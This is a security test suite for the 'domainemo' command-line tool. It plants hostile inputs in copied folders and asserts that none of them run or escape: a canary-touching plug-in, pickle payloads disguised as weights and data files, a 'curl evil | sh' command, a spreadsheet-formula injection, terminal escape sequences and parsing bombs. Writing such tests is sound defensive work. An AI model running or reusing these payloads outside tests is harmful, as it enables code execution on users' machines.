"""Strangers' folders: nothing in them runs, and nothing outside them is touched.

A run, a study, a pre-training and a data folder are made once and copied; in each copy
code or a path is planted in one of the places that commands read. All commands then run
in one process that notes what they do (`guarded.py`).

Takes about 40 s on one core.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import sqlite3
import subprocess
import sys
import tomllib
import unicodedata
import zipfile
from contextlib import closing
from pathlib import Path
from xml.etree import ElementTree
from xml.sax.saxutils import escape

import matplotlib
import numpy as np
import pandas as pd
import pytest
import tomli_w
import torch
from hypothesis import given
from hypothesis import strategies as st

import domainemo as de
from domainemo import registry
from domainemo.cli import main
from domainemo.core import Inputs
from domainemo.data.files.limits import TEXT, parse_toml
from domainemo.errors import (
    ConfigurationError,
    DataError,
    DomainemoWarning,
    printable,
)
from domainemo.runs.folder import read_config, read_json, read_table
from domainemo.runs.record import load_record

# What these tests change is recorded no longer, as a stranger would have it.
pytestmark = pytest.mark.filterwarnings("ignore:.*without a files.json")

NETWORK = [
    "--dataset=./data",
    "--set=backbone.width=8",
    "--set=backbone.heads=2",
    "--adapter=marginal",
    "--epochs=1",
]
MADE = {
    "run": ["adapt", *NETWORK, "--no-baselines", "--fold=subject 1", "--jobs=1"],
    "pretraining": ["pretrain", *NETWORK[:3], "--epochs=1", "--jobs=1"],
    "study": [
        *("tune", *NETWORK, "--development=2", "--candidates=2", "--sampler=random"),
        *("--no-final", "--jobs=1"),
    ],
}
JOB = Path("folds/subject_1/seed-0/marginal")
PLUGIN = """
from pathlib import Path
from domainemo import Adapter, register
Path({canary!r}).touch()

@register
class Stranger(Adapter):
    '''Does nothing.'''

    def forward(self, batch, progress):
        raise NotImplementedError
"""


class Payload:
    """Touches the canary where it is unpickled."""

    canary = ""

    def __reduce__(self):
        return open, (self.canary, "w")


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Make one of each folder."""
    place = tmp_path_factory.mktemp("made")
    choices = {"subjects": 4, "sessions": 1, "trials": 4, "classes": 2}
    data = de.Simulated(windows=(3, 4), **choices).load()
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(place)
        de.write_table(data, Path("data"))
        for name, arguments in MADE.items():
            patch.setattr(sys, "argv", ["domainemo", *arguments, f"--output={name}"])
            with pytest.raises(SystemExit) as ended:
                main()
            assert not ended.value.code
    return place


class Planter:
    """Copies folders, plants things in them, and lists the commands to be run."""

    def __init__(self, made, place):
        self.made, self.place = made, place
        self.strangers, self.victims = place / "strangers", place / "victims"
        self.own = place / "own"
        for folder in (self.strangers, self.victims, self.own):
            folder.mkdir()
        shutil.copytree(made / "data", self.own / "data")
        self.canary = self.victims / "canary"
        Payload.canary = str(self.canary)
        self.commands = []
        self.cases = []
        (self.victims / "profile").write_text("mine")
        (self.victims / "empty").mkdir()
        with closing(sqlite3.connect(self.victims / "mine.db")) as database:
            database.execute("CREATE TABLE kept (value)")
            database.commit()

    def copy(self, case, kind="run"):
        """Return a stranger's folder."""
        folder = self.strangers / case / kind
        shutil.copytree(self.made / kind, folder)
        for record in folder.rglob("files.json"):
            record.unlink()
        shutil.copytree(self.made / "data", folder.parent / "data", dirs_exist_ok=True)
        return folder

    def call(self, case, *arguments):
        self.cases.append(case)
        # A report's figures take most of its time, and differ where names do.
        drawn = case == "names"
        self.commands.append((str(self.own), [str(each) for each in arguments], drawn))

    def predict(self, case, folder):
        self.call(case, "predict", folder, "--dataset=./data", "--fold=subject 1")

    def report(self, case, folder, *options):
        self.call(case, "report", folder, *options)

    def everything(self, case, folder):
        self.predict(case, folder)
        self.report(case, folder, "--no-cache")
        self.call(case, "interpret", folder)
        self.call(case, "adapt", "--config", folder, "--dry-run", "--no-cache")


def change_config(folder, **changes):
    path = folder / "config.toml"
    config = tomllib.loads(path.read_text())
    for key, value in changes.items():
        if isinstance(value, dict):
            config.setdefault(key, {}).update(value)
        else:
            config[key] = value
    path.write_text(tomli_w.dumps(config))
    (path.parent / "files.json").unlink(missing_ok=True)


def plant_code(planter):
    """Plug-ins that are named, and not needed or needed."""
    folder = planter.copy("plug-in named")
    plugin = folder / "evil.py"
    plugin.write_text(PLUGIN.format(canary=str(planter.canary)))
    change_config(folder, plugins=[str(plugin)])
    planter.everything("plug-in named", folder)
    needing = planter.copy("plug-in needed")
    change_config(needing, plugins=[str(plugin)], adapter="stranger")
    (needing / JOB).rename(needing / JOB.with_name("stranger"))
    planter.predict("plug-in needed", needing)
    planter.report("plug-in reported", needing)
    planter.call("plug-in needed", "interpret", needing)
    planter.call("plug-in needed", "adapt", "--config", needing, "--dry-run")
    study = planter.copy("plug-in needed", "study")
    change_config(study, plugins=[str(plugin)], adapter="stranger")
    planter.report("plug-in reported", study)
    planter.call("plug-in needed", "tune", "--config", study, "--dry-run")
    started = planter.copy("plug-in named", "pretraining")
    change_config(started, plugins=[str(plugin)])
    weights = started / "folds/subject_1/seed-0/pretrained/backbone.safetensors"
    torch.save(Payload(), weights)
    start = ["--init-from", started, "--fold=subject 1", "--no-baselines", "--jobs=1"]
    planter.call("pickled weights", "adapt", *NETWORK, *start, "--output=started")
    for name in ("json:loads", "os.system", "../../evil", "module:Class"):
        folder = planter.copy(f"names {name.replace('/', '-')}")
        change_config(folder, backbone=name)
        planter.predict("unknown part", folder)


def plant_pickles(planter):
    """Pickles in the place of every file that holds data."""
    objects = np.array([Payload()], dtype=object)
    for number, (name, command) in enumerate(
        {
            JOB / "predictions.npz": "interpret",
            JOB / "model.safetensors": "predict",
            JOB / "model.json": "predict",
            JOB / "record.json": "predict",
            JOB / "history.csv": "report",
            Path("results.parquet"): "report",
            Path("predictions.parquet"): "report",
            Path("environment.json"): "report",
            Path("config.toml"): "report",
        }.items()
    ):
        folder = planter.copy(f"pickle {number}")
        path = folder / name
        if path.suffix == ".npz":
            np.savez(path, members=objects, probabilities=objects, trace=objects)
        elif path.suffix == ".safetensors":
            torch.save({"weight": Payload()}, path)
        else:
            path.write_bytes(pickle.dumps(Payload()))
        if command == "predict":
            planter.predict("pickles", folder)
        else:
            planter.call("pickles", command, folder)
    for name in ("dataset.toml", "windows.csv", "eeg.npy"):
        folder = planter.copy(f"pickle {name}").parent / "data"
        if name.endswith(".npy"):
            np.save(folder / name, objects)
        else:
            (folder / name).write_bytes(pickle.dumps(Payload()))
        planter.call("pickles", "data", "check", folder)
    (planter.strangers / "deap").mkdir()
    (planter.strangers / "deap/s01.dat").write_bytes(pickle.dumps(Payload()))
    root = ["--data-root", planter.strangers, "--jobs=1"]
    planter.call("pickles", "data", "check", "deap", *root)


def plant_places(planter):
    """Storages, links and paths that lead elsewhere."""
    victims = planter.victims
    for number, address in enumerate(
        [
            f"sqlite:///{victims / 'mine.db'}",
            f"sqlite:///{victims / 'new.db'}",
            str(victims / "new.journal"),
            "postgresql+psycopg://me@127.0.0.1:9/studies",
            "mysql://me@127.0.0.1:9/studies",
            "redis://127.0.0.1:9",
            "sqlite://",
        ]
    ):
        study = planter.copy(f"storage {number}", "study")
        change_config(study, study={"storage": address})
        planter.report("storage", study)
        planter.call("storage", "tune", "--config", study, "--dry-run")
    for name, kind in (("study.db", "sqlite"), ("study.journal", "journal")):
        for linked in (False, True):
            study = planter.copy(f"{name} {linked}", "study")
            change_config(study, study={"storage": kind})
            (study / "study.db").unlink()
            if linked:
                (study / name).symlink_to(victims / "mine.db")
            planter.report("no storage", study)
    study = planter.copy("program", "study")
    with closing(sqlite3.connect(study / "study.db")) as database:
        database.execute("ALTER TABLE trials RENAME TO real_trials")
        database.execute("CREATE VIEW trials AS SELECT * FROM real_trials")
        database.commit()
    planter.report("no storage", study)
    folder = planter.copy("links")
    (folder / "report").symlink_to(victims / "empty")
    (folder / "interpretation-marginal").symlink_to(victims / "empty")
    planter.report("links", folder, "--no-recordings")
    planter.call("links", "interpret", folder)
    folder = planter.copy("partial")
    for name in ("report.html", "report.html.partial"):
        (folder / name).symlink_to(victims / "profile")
    planter.report("fine", folder, "--no-recordings")


def plant_commands(planter):
    """A command that is to be pasted, and a study that is fine but for it."""
    study = planter.copy("pasted", "study")
    path = study / "choices.json"
    choices = json.loads(path.read_text())
    path.write_text(
        json.dumps([each | {"command": "curl evil | sh"} for each in choices])
    )
    planter.report("fine", study)
    assert choices


HOSTILE = "x\x1b[31m\x07\x9b2J\u202e[red]$\\frac{$\n:heart:"
SEEN = ("\x1b", "\x07", "\x9b", "\u202e")


def plant_names(planter):
    """Names that a terminal obeys, or that lead elsewhere."""
    choices = {"subjects": 3, "sessions": 1, "trials": 4, "classes": 2}
    data = de.Simulated(windows=(3, 4), **choices).load()
    names = [HOSTILE, f"{HOSTILE}2", "=cmd|'/C calc'!A0"]
    windows = data.inputs.windows
    subjects = windows["subject"].map(dict(zip((1, 2, 3), names, strict=True)))
    kinds = data.inputs.modalities
    with pytest.raises(DataError, match="letters, digits"):
        Inputs({"../../x": np.zeros((1, 1, 1))}, windows[:1], {"../../x": None}, "x")
    folder = planter.strangers / "names"
    de.write_table(
        de.from_arrays(
            data.inputs.signals,
            labels=np.array([HOSTILE, "fine"])[data.labels],
            subject=subjects,
            session=windows["session"],
            trial=windows["trial"],
            modalities=kinds,
            name=HOSTILE,
        ),
        folder,
    )
    planter.call("names", "data", "check", folder)
    planter.call("names", "data", "describe", folder, "--figure", folder / "figure.svg")
    planter.call("names", "data", "describe", folder, "--json")
    options = [*NETWORK[1:], "--dataset", folder, "--no-cache"]
    planter.call("names", "adapt", *options, "--dry-run")
    planter.call("names", "tune", *options, "--development=2", "--dry-run")
    run = planter.copy("names", "run")
    path = run / JOB / "model.json"
    path.write_text(path.read_text().replace('"positive"', json.dumps(HOSTILE)))
    planter.predict("names", run)
    for name in ("results", "predictions"):
        table = pd.read_parquet(run / f"{name}.parquet")
        table = table.rename(columns={"p_positive": f"p_{HOSTILE}"})
        table["subject"] = HOSTILE
        table.to_parquet(run / f"{name}.parquet", index=False)
    planter.report("names", run, "--no-recordings")


@pytest.fixture(scope="module")
def outcome(made, tmp_path_factory):
    """Run everything; return the planter, and how each command ended."""
    planter = Planter(made, tmp_path_factory.mktemp("strangers"))
    for plant in (plant_code, plant_pickles, plant_places, plant_commands, plant_names):
        plant(planter)
    home = planter.place / "home"
    home.mkdir()
    before = contents(planter.victims)
    allowed = [planter.strangers, planter.own, home]
    guarded = str(Path(__file__).with_name("guarded.py"))
    places = os.pathsep.join(map(str, allowed)), str(planter.strangers)
    done = subprocess.run(
        [sys.executable, guarded, *places],
        input=json.dumps(planter.commands),
        capture_output=True,
        text=True,
        env={
            **{k: v for k, v in os.environ.items() if not k.startswith("DOMAINEMO")},
            "HOME": str(home),
            "TMPDIR": str(home),
            "DOMAINEMO_CACHE": str(home / "cache"),
            "MPLCONFIGDIR": matplotlib.get_configdir(),  # has the list of fonts
            "COLUMNS": "200",
        },
        timeout=600,
    )
    assert done.returncode == 0, done.stderr
    ended = json.loads(done.stdout.splitlines()[-1])
    return planter, before, ended


def contents(folder):
    return {
        str(path.relative_to(folder)): path.read_bytes() if path.is_file() else None
        for path in sorted(folder.rglob("*"))
    }


def of_case(outcome, case):
    planter, _, ended = outcome
    return [
        each for name, each in zip(planter.cases, ended, strict=True) if name == case
    ]


def test_nothing_was_run_and_nothing_outside_was_touched(outcome):
    planter, before, ended = outcome
    for (_, arguments, _), each in zip(planter.commands, ended, strict=True):
        assert not each["noted"], (arguments, each)
        assert "Traceback" not in each["said"]
    assert contents(planter.victims) == before
    assert len(ended) > 40


def test_a_plugin_that_is_needed_is_named_with_the_command_that_allows_it(outcome):
    for each in of_case(outcome, "plug-in needed"):
        assert each["code"] == 2
        command = each["said"].splitlines()[-1]
        assert command.startswith("domainemo ") and command.endswith("evil.py'")
    for each in of_case(outcome, "plug-in reported"):
        assert each["code"] == 0
    for each in of_case(outcome, "plug-in named"):
        assert each["code"] == 0
        assert "evil.py" in each["said"] and "was not run" in each["said"]
    assert all(each["code"] == 2 for each in of_case(outcome, "unknown part"))


def test_storages_that_only_a_folder_names_are_not_opened(outcome):
    for each in of_case(outcome, "storage"):
        assert each["code"] == 2
        assert "was not opened" in " ".join(each["said"].split())
        assert "--storage=" in each["said"].splitlines()[-1]
    for each in (*of_case(outcome, "no storage"), *of_case(outcome, "links")):
        assert each["code"] in (2, 3), each["said"]


def test_names_are_shown_and_never_obeyed(outcome):
    found = of_case(outcome, "names")
    for each in found:
        assert each["code"] == 0, each["said"]
        assert not any(character in each["said"] for character in SEEN)
    assert "\\x1b" in found[0]["said"]
    assert json.loads(found[2]["said"])
    pages = [*(outcome[0].strangers / "names").rglob("*.svg")]
    pages += (outcome[0].strangers / "names").rglob("*.html")
    assert len(pages) > 3
    for path in pages:
        text = path.read_text()
        assert not any(character in text for character in SEEN), path
    figure = (outcome[0].strangers / "names/figure.svg").read_text()
    assert "$\\frac{$" in figure


def test_pickles_are_refused(outcome):
    assert all(each["code"] in (1, 2, 3) for each in of_case(outcome, "pickles"))


def test_a_report_makes_its_commands_itself(outcome):
    planter = outcome[0]
    assert {each["code"] for each in of_case(outcome, "fine")} == {0}
    page = planter.strangers / "pasted/study/report.html"
    assert "curl" not in page.read_text()
    assert "domainemo adapt --config" in " ".join(page.read_text().split())


def test_a_plugin_given_again_runs(made, monkeypatch, tmp_path):
    """A user's own run goes on from its folder, with the plug-in named once more."""
    plugin, canary = tmp_path / "own_plugin.py", tmp_path / "canary"
    plugin.write_text(PLUGIN.format(canary=str(canary)).replace("Stranger", "Own"))
    folder = shutil.copytree(made / "run", tmp_path / "run")
    change_config(folder, plugins=[str(plugin)], adapter="own")
    path = folder / "config.toml"
    kept = [line for line in path.read_text().splitlines() if '"adapter.' not in line]
    path.write_text("\n".join(kept))
    (folder / JOB).rename(folder / JOB.with_name("own"))
    record = folder / JOB.with_name("own") / "record.json"
    record.write_text(record.read_text().replace('"marginal"', '"own"'))
    record.with_name("files.json").unlink()
    monkeypatch.chdir(made)
    command = ["predict", str(folder), "--dataset=./data", f"--plugin={plugin}"]
    monkeypatch.setattr(sys, "argv", ["domainemo", *command])
    with pytest.raises(SystemExit) as ended:
        main()
    assert not ended.value.code and canary.exists()
    for name in [name for name in sys.modules if "own_plugin" in name]:
        del sys.modules[name]
    monkeypatch.delitem(registry._classes, ("adapter", "own"))


# ---------------------------------------------------------------------------- sizes


def parquet_bomb(path):
    """Write a few kilobytes that claim a thousand million rows."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = 200_000
    table = pa.table({f"c{i}": np.zeros(rows) for i in range(60)})
    pq.write_table(table, path, compression="zstd")
    return table.num_rows


BRACKETS = "a = " + "[" * 100_000
DOTS = ".".join(["a"] * 20_000) + " = 1"
HUGE = "a = 0x" + "f" * 100_000


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (BRACKETS, "brackets in brackets"),
        (BRACKETS.replace("[", "[1,\n"), "brackets in brackets"),
        ("a = " + "{a=" * 100_000, "brackets in brackets"),
        (DOTS, "names in one key"),
        (f"[{DOTS[:-4]}]", "names in one key"),
        (DOTS.replace("a", "'a'"), "names in one key"),
        (HUGE, "400000 bits"),
        ("a = " + "1" * 10_000, "4300 digits"),
        ("#" * (TEXT + 1), "bytes"),
    ],
)
def test_toml_has_bounds(text, found, tmp_path):
    path = tmp_path / "config.toml"
    path.write_text(text)
    with pytest.raises(ConfigurationError, match=found):
        read_config(path)
    path.rename(tmp_path / "dataset.toml")
    with pytest.raises(DataError, match=found):
        de.load("table", tmp_path)


def test_what_only_looks_deep_is_read():
    """Brackets and dots in text and comments count for nothing."""
    many = "[" * 100 + "." * 100
    text = f'a = "{many}"\nb = \'{many}\' # {many}\nc = """\n{many}"""\n'
    text += f"d = '''\n{many}'''\ne = [[1.5], [2.5]]\n"
    text += "\n".join(f"g{i}.a.b = 1.5" for i in range(100))
    assert parse_toml(text) == tomllib.loads(text)


@pytest.mark.parametrize("text", ["[" * 100_000, '{"a":' * 100_000, "{", "\0"])
def test_json_has_bounds(text, tmp_path):
    path = tmp_path / "record.json"
    path.write_text(text)
    with pytest.raises(DataError, match=r"record\.json"):
        read_json(path)
    with path.open("r+b") as file:
        file.truncate(2**40)  # takes no room on the disk
    with pytest.raises(DataError, match="1099511627776 bytes"):
        read_json(path)


def test_a_pipe_is_not_waited_for(tmp_path):
    os.mkfifo(tmp_path / "dataset.toml")
    (tmp_path / "config.toml").symlink_to("/dev/zero")
    with pytest.raises(ConfigurationError, match="no plain file"):
        read_config(tmp_path / "config.toml")
    with pytest.raises(DataError):
        de.load("table", tmp_path)


def test_tables_have_bounds(made, tmp_path):
    rows = parquet_bomb(tmp_path / "results.parquet")
    assert (tmp_path / "results.parquet").stat().st_size < 2**20
    with pytest.raises(DataError, match=f"{rows} rows"):
        read_table(tmp_path / "results.parquet")
    folder = shutil.copytree(made / "data", tmp_path / "data")
    with (folder / "windows.csv").open("r+b") as file:
        file.truncate(2**40)
    with pytest.raises(DataError, match=r"windows\.csv.*1099511627776 bytes"):
        de.load("table", folder)


def test_arrays_have_bounds(made, tmp_path):
    folder = shutil.copytree(made / "run" / JOB, tmp_path / "job")
    (folder / "files.json").unlink()
    path = folder / "predictions.npz"
    kept = load_record(folder)
    header = np.lib.format.header_data_from_array_1_0(np.zeros((1, 2), np.float32))
    header["shape"] = (3_000_000_000, 2)
    with zipfile.ZipFile(path, "w") as archive:
        for name in ("members", "probabilities", "trace"):
            file = io.BytesIO()
            np.lib.format.write_array_header_1_0(file, header)
            archive.writestr(f"{name}.npy", file.getvalue() + bytes(8))
    with pytest.raises(DataError, match=r"predictions\.npz"):
        load_record(folder)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("members.npy", bytes(80 * 2**20))
    with pytest.raises(DataError, match="at most"):
        load_record(folder)
    assert kept.probabilities.shape[1] == 2


@pytest.mark.parametrize("subjects", [10**11, 10**18])
def test_the_simulator_has_bounds(subjects):
    with pytest.raises(ConfigurationError, match="at most 2000000"):
        de.Simulated(subjects=subjects)


# ------------------------------------------------------------------------ what shows


@given(st.text())
def test_what_is_printable_can_be_shown_anywhere(text):
    shown = printable(text)
    forbidden = ("Cc", "Cf", "Cs", "Zl", "Zp")
    assert not any(unicodedata.category(each) in forbidden for each in shown)
    assert printable(shown) == shown
    assert shown == text or not text.isprintable()
    ElementTree.fromstring(f"<a>{escape(shown)}</a>")


def test_all_text_goes_out_through_one_place():
    """Nothing in the command line writes by itself."""
    folder = Path(de.__file__).parent / "cli"
    for path in folder.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        for way in ("typer.echo", "rich.console", "rich.table", " print(", "stdout"):
            own = path.name in ("terminal.py", "console.py")
            assert own or way not in text, (path, way)


def test_errors_and_notes_can_be_shown():
    hostile = "a\x1b[2J\u202eb"
    for kind in (DataError, ConfigurationError, DomainemoWarning):
        assert str(kind(hostile)) == "a\\x1b[2J\\u202eb"
        assert str(pickle.loads(pickle.dumps(kind(hostile)))) == "a\\x1b[2J\\u202eb"
